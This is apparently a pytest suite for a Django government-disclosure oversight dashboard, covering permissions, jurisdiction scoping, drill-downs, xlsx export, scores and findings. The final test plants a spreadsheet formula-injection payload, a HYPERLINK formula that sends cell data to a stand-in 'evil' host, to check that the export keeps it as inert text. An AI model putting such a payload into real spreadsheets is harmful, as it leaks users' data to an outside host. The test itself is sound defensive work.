"""The supervisors' pages: permission (403 for others, jurisdiction scope), figures linking to drill-downs that
list exactly the records behind them, the .xlsx export, scores and findings."""

from __future__ import annotations

import datetime as dt
import io
import re

import pytest
from openpyxl import load_workbook

from gongkai.orgs.models import Role
from gongkai.oversight.models import Finding
from tests.helpers.disclosures import member
from tests.helpers.oversight import END, START, TODAY

Q = f"jurisdiction=341500&preset=custom&from={START:%Y-%m-%d}&to={END:%Y-%m-%d}"


@pytest.fixture(autouse=True)
def _today(monkeypatch):
    from django.utils import timezone

    monkeypatch.setattr(timezone, "localdate", lambda *a, **k: TODAY)


@pytest.fixture
def sup_client(client, world):
    client.force_login(world.supervisor)
    return client


def test_publishers_and_anonymous_are_refused(client, world, publisher):
    assert client.get("/staff/oversight/").status_code == 302  # to the login page
    client.force_login(publisher)
    for url in ("/staff/oversight/", "/staff/oversight/figures/overdue/", "/staff/oversight/export.xlsx",
                "/staff/oversight/scores/"):  # fmt: skip
        assert client.get(url).status_code == 403, url


def test_a_supervisor_role_in_an_ordinary_organization_is_not_enough(client, world):
    user = member(world.centre, Role.SUPERVISOR, "not-a-bureau")
    client.force_login(user)
    assert client.get("/staff/oversight/").status_code == 403


def test_supervisor_sees_only_their_jurisdiction(client, world):
    from tests.factories import OrganizationFactory

    th = OrganizationFactory(
        name="亭湖区政务公开办（测试）", jurisdiction=world.outside_org.jurisdiction, is_supervisor=True
    )
    client.force_login(member(th, Role.SUPERVISOR, "th-sup"))
    r = client.get(f"/staff/oversight/?{Q}")
    assert r.status_code == 200
    assert r.context["f"].jurisdiction.code == "320902"  # Lu'an refused, own jurisdiction shown
    assert "无权查看该行政区域" in r.content.decode()


def test_dashboard_figures_link_to_drilldowns_of_exactly_their_records(sup_client, world):
    r = sup_client.get(f"/staff/oversight/?{Q}")
    assert r.status_code == 200
    html = r.content.decode()
    assert 'id="oversight-chart-data"' in html
    assert "echarts.min.js" in html
    assert "按时公开率" in html
    assert "40.0%" in html
    figures = {f.code: f.value for f in r.context["figures"]}
    assert figures["overdue"] == 2
    for code, value in figures.items():
        page = sup_client.get(f"/staff/oversight/figures/{code}/?{Q}")
        assert page.status_code == 200, code
        body = page.content.decode()
        assert f"共 {value} 条" in body, code
        assert body.count('class="ov-record"') == value, code
    overdue = sup_client.get(f"/staff/oversight/figures/overdue/?{Q}").content.decode()
    assert "逾期未发布" in overdue
    assert "区县逾期未公开" in overdue
    assert "期后一天" not in overdue
    assert sup_client.get(f"/staff/oversight/figures/nope/?{Q}").status_code == 404


def test_rankings_and_filters(sup_client, world):
    r = sup_client.get(f"/staff/oversight/?{Q}&organization={world.centre.pk}")
    assert {f.code: f.value for f in r.context["figures"]}["due"] == 2
    rows = r.context["org_rows"]
    names = [row.organization.name for row in sup_client.get(f"/staff/oversight/?{Q}").context["org_rows"]]
    assert world.other_org.name in names
    assert world.county_org.name in names
    assert rows[0].organization == world.centre
    # The worst on-time rate first: the county office (0 of 1) before the centre (1 of 2).
    assert names.index(world.county_org.name) < names.index(world.centre.name)


def test_export_xlsx(sup_client, world):
    r = sup_client.get(f"/staff/oversight/export.xlsx?{Q}")
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames[:2] == ["监测指标", "机构排名"]
    figures = {row[0]: row[2] for row in wb["监测指标"].iter_rows(min_row=6, values_only=True)}
    assert figures["overdue"] == 2
    assert figures["on_time"] == 2
    assert figures["late"] == 1
    overdue = [row[0] for row in wb["逾期未公开"].iter_rows(min_row=2, values_only=True)]
    assert sorted(overdue) == sorted(["逾期未发布", "区县逾期未公开"])
    ranking = list(wb["机构排名"].iter_rows(min_row=2, values_only=True))
    assert {row[1] for row in ranking} >= {world.centre.name, world.county_org.name}


def test_scores_page_shows_the_breakdown(sup_client, world):
    r = sup_client.get(f"/staff/oversight/scores/?{Q}")
    assert r.status_code == 200
    html = r.content.decode()
    assert world.centre.name in html
    centre = next(s for s in r.context["scores"] if s.organization == world.centre)
    assert str(centre.total) == "64.00"
    assert "检查发现问题逾期未整改" in html
    assert "1 × 5 = 5" in html
    assert "逾期抄送监管部门 1 × 1 = 1" in html


def test_findings_pages_record_rectify_accept(client, world, publisher):
    client.force_login(world.supervisor)
    r = client.post("/staff/oversight/findings/", {"organization": world.centre.pk, "inspected_on": "2026-01-15",
                                                    "finding": "合同信息未公开", "requirement": "补充公开",
                                                    "rectify_days": "5"})  # fmt: skip
    assert r.status_code == 302
    f = Finding.objects.get(finding="合同信息未公开")
    assert f.rectify_by == dt.date(2026, 1, 22)  # 16, 19, 20, 21, 22 January
    listing = client.get("/staff/oversight/findings/?overdue=1").content.decode()
    assert "未按时公开中标结果" in listing
    assert "合同信息未公开" not in listing
    client.force_login(publisher)
    assert client.get("/staff/oversight/").status_code == 403
    page = client.get(f"/staff/oversight/findings/{f.pk}/").content.decode()
    assert "报告整改情况" in page
    client.post(
        f"/staff/oversight/findings/{f.pk}/rectify/",
        {"rectification": "已补充公开", "rectified_on": "2026-01-15"},
    )
    f.refresh_from_db()
    assert f.state == "rectified"
    client.force_login(world.supervisor)
    client.post(f"/staff/oversight/findings/{f.pk}/accept/", {"comment": ""})
    f.refresh_from_db()
    assert f.state == "accepted"


def test_staffbar_links_the_dashboard_for_supervisors_only(client, world, publisher):
    client.force_login(world.supervisor)
    assert re.search(r'href="/staff/oversight/"[^>]*>监督监测', client.get("/staff/").content.decode())
    client.force_login(publisher)
    assert "监督监测" not in client.get("/staff/").content.decode()


def test_dashboard_lists_the_daily_snapshots(sup_client, world):
    from gongkai.oversight import services

    services.run_scan(TODAY)
    html = sup_client.get("/staff/oversight/?jurisdiction=341500").content.decode()
    assert "每日监测快照" in html
    assert "2026-01-15" in html


def test_dashboard_query_count_does_not_grow_with_organizations(
    sup_client, world, django_assert_max_num_queries
):
    from tests.factories import OrganizationFactory
    from tests.helpers.oversight import make_disclosure

    with django_assert_max_num_queries(95) as before:  # incl. the session save and the second-factor device
        sup_client.get(f"/staff/oversight/?{Q}")
    for i in range(5):
        org = OrganizationFactory(name=f"新增单位{i}（测试）", jurisdiction=world.luan)
        make_disclosure(org, world.award, title=f"新增{i}", due_on=dt.date(2025, 11, 3))
    with django_assert_max_num_queries(len(before.captured_queries) + 3):
        sup_client.get(f"/staff/oversight/?{Q}")


def test_export_xlsx_keeps_a_formula_in_a_title_as_text(sup_client, world):
    from gongkai.disclosures.models import Disclosure

    payload = '=HYPERLINK("http://evil/?x="&A1,"点我")'
    assert Disclosure.objects.filter(title="逾期未发布").update(title=payload) == 1
    wb = load_workbook(io.BytesIO(sup_client.get(f"/staff/oversight/export.xlsx?{Q}").content))
    titles = [row[0] for row in wb["逾期未公开"].iter_rows(min_row=2, values_only=True)]
    assert "'" + payload in titles
    assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
